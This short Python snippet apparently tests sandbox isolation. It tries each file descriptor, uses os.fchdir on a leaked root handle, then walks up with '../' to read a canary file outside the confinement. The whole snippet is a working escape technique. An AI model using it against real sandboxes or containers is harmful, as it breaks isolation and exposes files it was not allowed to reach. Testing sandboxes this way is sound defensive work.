# opens ../ relative to a leaked descriptor
# before: import os; os.open("/", os.O_RDONLY)
# ends: variously
import os
for fd in range(3, 1024):
    try:
        os.fchdir(fd)
        print(open('../' * 20 + CANARY_FILE.lstrip('/')).read())
    except OSError: pass
